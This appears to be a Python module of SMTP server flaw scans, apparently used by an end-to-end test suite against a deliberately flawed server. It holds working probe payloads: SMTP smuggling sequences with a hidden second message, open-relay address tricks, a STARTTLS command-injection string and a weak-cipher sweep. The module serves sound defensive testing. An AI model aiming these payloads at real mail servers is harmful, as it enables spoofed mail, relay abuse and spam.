"""Scans for flaws of an SMTP server. What a server says decides nothing: what arrived behind it does.

tests/e2e/test_scans.py shows that each finds its flaw in a server that has it, and nothing in one that has not (lib/flawed.py).
"""

import re
import ssl
import subprocess

from lib.smtp import Client, Closed, unverified

# What a careless server takes for the end of DATA.
ENDS = (b"\n.\n", b"\n.\r\n", b"\r.\r", b"\r.\r\n", b"\r\n.\n", b"\r\n.\r", b"\r\r\n.\r\r\n", b"\r\n.\r\r\n", b"\r\n\0.\r\n",
        b"\r\0\n.\r\n", b"\r\n.\0\r\n", b"\r\n.\r\0\n")
SMUGGLED = b"MAIL FROM:<evil@contoso.com>\r\nRCPT TO:<victim-%d@fabrikam.com>\r\nDATA\r\nSubject: two\r\n\r\nsmuggled\r\n.\r\n"
INJECTED = b"EHLO evil\r\nMAIL FROM:<chris@contoso.com>\r\nRCPT TO:<injected@fabrikam.com>\r\nDATA\r\nSubject: x\r\n\r\nx\r\n.\r\n"
EARLY = b"EHLO early\r\nMAIL FROM:<chris@contoso.com>\r\nRCPT TO:<early@fabrikam.com>\r\nDATA\r\nSubject: x\r\n\r\nx\r\n.\r\n"
# Ways to ask a server of contoso.com for victim@fabrikam.com, as scanners for open relays do.
RELAY_FORMS = ("victim@fabrikam.com", "victim%fabrikam.com@contoso.com", "victim%fabrikam.com@[127.0.0.1]", "fabrikam.com!victim", "fabrikam.com!victim@contoso.com",
               "fabrikam.com!victim@[127.0.0.1]", "@contoso.com:victim@fabrikam.com", "@[127.0.0.1]:victim@fabrikam.com", "victim@fabrikam.com@contoso.com",
               '"victim@fabrikam.com"', '"victim@fabrikam.com"@contoso.com', '"victim%fabrikam.com"', '"victim%fabrikam.com"@contoso.com', "victim%fabrikam.com")
ALL_CIPHERS = "ALL:COMPLEMENTOFALL:@SECLEVEL=0"


def smuggle(port, source):
    """Sends a message with a second one behind each of the ends. The second is of ENDS[n] when victim-n arrives."""
    for number, end in enumerate(ENDS):
        with Client(port, source=source) as client:
            client.envelope("chris@contoso.com", ["first-%d@fabrikam.com" % number])
            if client.say("DATA").code == 354:
                client.send(b"Subject: one\r\n\r\nbody" + end + SMUGGLED % number + b"\r\n.\r\n")
                listen(client)


def smuggled(recipients):
    """The ends by which a second message arrived."""
    return [ENDS[int(match.group(1))] for match in (re.match(r"victim-(\d+)@", recipient) for recipient in recipients) if match]


def relay(port, source):
    """Asks for an outside recipient in each form. One at fabrikam.com must not arrive."""
    for form in RELAY_FORMS:
        with Client(port, source=source) as client:
            client.ehlo()
            if client.mail("a@b.example").code == 250 and client.rcpt(form).code == 250:
                client.data()


def relayed(recipients):
    """Those to whom a next hop would carry it outside."""
    return [recipient for recipient in recipients if recipient.rpartition("@")[2].lower() == "fabrikam.com"]


def inject_behind_starttls(port, source):
    """Commands in plaintext, behind STARTTLS in the same segment, then the handshake. injected@ must not arrive."""
    with Client(port, source=source) as client:
        client.ehlo()
        client.send(b"STARTTLS\r\n" + INJECTED)
        try:
            if client.reply().code == 220:
                client.secure()
                listen(client)
        except (ssl.SSLError, OSError, AssertionError, Closed):
            pass


def talk_early(port, source):
    """A whole message before the greeting. early@ must not arrive."""
    with Client(port, source=source, greet=False) as client:
        client.send(EARLY)
        listen(client)


def listen(client):
    """Until the server has said all it says: it closes, or answers QUIT."""
    try:
        client.send(b"QUIT\r\n")
        while not client.reply().text.startswith("221"):
            pass
    except (Closed, OSError, AssertionError):
        pass


def ciphers(port, source, version=ssl.TLSVersion.TLSv1_2):
    """Those of all that this OpenSSL knows, one by one, that the server takes."""
    names = subprocess.run(["openssl", "ciphers", ALL_CIPHERS], capture_output=True, text=True, check=True).stdout
    taken = set()
    for name in names.strip().split(":"):
        context = unverified(version)
        try:
            context.set_ciphers(name + ":@SECLEVEL=0")
        except ssl.SSLError:
            continue
        with Client(port, source=source) as client:
            client.ehlo()
            try:
                client.starttls(context=context)
                taken.add(client.socket.cipher()[0])
            except (ssl.SSLError, ConnectionError):
                pass
    return taken
